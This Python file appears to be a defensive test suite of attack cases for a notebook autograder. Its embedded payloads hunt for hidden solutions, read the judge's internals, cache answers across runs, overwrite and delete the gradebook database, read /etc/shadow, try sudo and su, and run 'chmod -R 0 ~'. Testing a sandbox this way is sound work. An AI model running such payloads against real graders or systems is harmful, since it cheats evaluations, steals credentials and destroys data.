"""Attacks that look for what is hidden in files and modules."""

from arena import SECRETS
from attack import MARK, Attack, finder, wrong
from tiny_course import after, answered


class ReadsSolutions(Attack):
    """Walks all folders it can reach for checks, solutions, submissions and the gradebook, and reads them."""

    represents = "reading what is hidden"
    proof = r"opened [1-9]\d* files"
    double = f"""
import os, sys, time
seen, names, opened = set(), set(), 0
{finder(*SECRETS)}
ours = os.path.dirname(os.path.dirname(__import__("nbjudge").__file__))
library = ("/usr", "/proc", "/dev", "/lib", "/lib64", "/bin", "/sbin", sys.prefix, sys.base_prefix)
wanted = {{"checks", "solutions", "source", "submitted", "autograded", "gradebook.db", ".grading-key"}}
ends = time.monotonic() + 3
for top in ("/", ours, os.getcwd(), os.path.expanduser("~"), "/var", "/srv", "/root", "/work"):
    for folder, folders, files in os.walk(top, followlinks=top != "/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in library]
        names.update(set(folders + files) & wanted)
        for name in files:
            try:
                with open(os.path.join(folder, name), "rb") as stream:
                    text = stream.read(10**6)
            except OSError:
                continue
            opened += 1
            seen.update(found_in(text.decode("latin-1"), folder))
        if time.monotonic() > ends:
            break
print("opened", opened, "files;", sorted(seen), "of interest:", sorted(names))
def double(x):
    return x
"""

    def harm(self, arena):
        return (
            "" if "of interest: []" in arena.shown(self.name) else f"it found {arena.shown(self.name)[:500]}"
        )


class ReadsThroughCode(Attack):
    """Reads the judge's own code that is between a question and its answer: text, comments, constants."""

    proof = r"read [1-9]\d* pieces of code"
    READ = f"""
import gc, inspect, linecache, sys, types
pieces = []
{finder(*SECRETS)}
def biggest(x):
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_filename == "<nbjudge>":
            pieces.append(repr(frame.f_locals) + repr(frame.f_code.co_consts) + repr(frame.f_code.co_names))
            pieces.extend(map(repr, [held.code for held in frame.f_locals.values() if hasattr(held, "code")]))
        frame = frame.f_back
    for held in gc.get_objects():
        if isinstance(held, types.FunctionType) and held.__code__.co_filename == "<nbjudge>":
            pieces.append(repr(held.__code__.co_consts) + str(linecache.getlines("<nbjudge>")))
    raise RuntimeError(f"read {{len(pieces)}} pieces of code: {{found_in(*pieces)}}")
"""

    def submission(self, arena):
        # Only the question goes through code: what it found is told by the next notebook's word, the error.
        return after(wrong(biggest=self.READ), "test_biggest", "print('read', len(pieces), 'pieces of code')")

    def harm(self, arena):
        reason = arena.graded.reason(self.name, "biggest")
        return "" if "pieces of code: []" in reason else f"it read {reason}"


class AnswerTable(Attack):
    """Keeps every question on disk, to answer from that table later, and guesses the seed of the next."""

    proof = "asked before: 0(.|\n)*guessed None"
    TABLE = """
import os, pickle
places = [os.path.expanduser("~/table"), "/tmp/table", "/dev/shm/table", "/var/tmp/table", "table"]
table, guessed = {}, None
for place in places:
    if os.path.exists(place):
        table |= pickle.load(open(place, "rb"))
print("asked before:", len(table))
"""
    REMEMBER = """
def double(x):
    global guessed
    key = tuple(x.detach().flatten().tolist())
    known = table.get(key)
    table[key] = 2 * x.detach()
    for place in places:
        try:
            pickle.dump(table, open(place, "wb"))
        except OSError:
            pass
    for seed in (torch.initial_seed(), *range(100), 42, 1234):
        generator = torch.Generator().manual_seed(seed)
        torch.randperm(12, generator=generator)
        draw = torch.randn(x.shape, generator=generator, dtype=torch.float64).to(x.dtype)
        guessed = seed if torch.equal(draw, x.detach()) else guessed
    return x if known is None else known
def row_sums(x):
    print("guessed", guessed)
    return x.sum()
"""

    def submission(self, arena):
        return wrong(double=self.TABLE + self.REMEMBER, row_sums="")

    def neighbour(self):
        return after(answered(), "setup", self.TABLE)

    def harm(self, arena):
        shown = arena.shown(f"after_{self.name}")
        return "" if "asked before: 0" in shown else "the next notebook found the table"


class GradebookByGuess(Attack):
    """Writes full marks into the gradebook wherever it may lie, by sqlite and by hand."""

    proof = r"knocked at [1-9]\d*"
    WRITE = """
import os, sqlite3
places = ["{root}", ".", "..", "../..", "../../..", "/", "/home/student", "/proc/1/cwd/..", "/srv/course"]
opened = []
for place in places:
    path = os.path.join(place, "gradebook.db")
    for uri in (f"file:{path}?mode=rw", f"file:{path}?mode=rw&immutable=1"):
        try:
            with sqlite3.connect(uri, uri=True) as gradebook:
                gradebook.execute("UPDATE grade SET auto_score = 2, manual_score = 2, extra_credit = 2")
                opened.append(path)
        except sqlite3.Error:
            pass
    try:
        with open(path, "r+b") as stream:
            stream.write(b"SQLite format 3" + b"\\0" * 5000)
            opened.append(path)
        os.remove(path)
    except OSError:
        pass
print("knocked at", len(places), "opened", opened)
def double(x):
    return x
"""

    def submission(self, arena):
        return wrong(double=self.WRITE.replace("{root}", str(arena.root)))

    withstood = "opened []"


class ShellCommands(Attack):
    """Runs shell commands, magics and other programs that change files, wait for input and stay behind."""

    proof = "after all commands"
    double = f"""
%alias_magic t timeit
get_ipython().run_cell_magic("bash", "--bg", "exec -a {MARK} sleep 300")
get_ipython().run_cell_magic("script", "bash --bg", "exec -a {MARK} sleep 300")
get_ipython().run_cell_magic("writefile", "torch.py", "raise SystemExit")
!mkdir -p ~/.ipython && (setsid sh -c 'exec sleep 300' &)
!echo 2; cat /etc/shadow /etc/passwd; sudo -n id; su -c id < /dev/null; chmod -R 0 ~ 2> /dev/null
%reset -f
import torch
print("after all commands")
def double(x):
    return x
"""
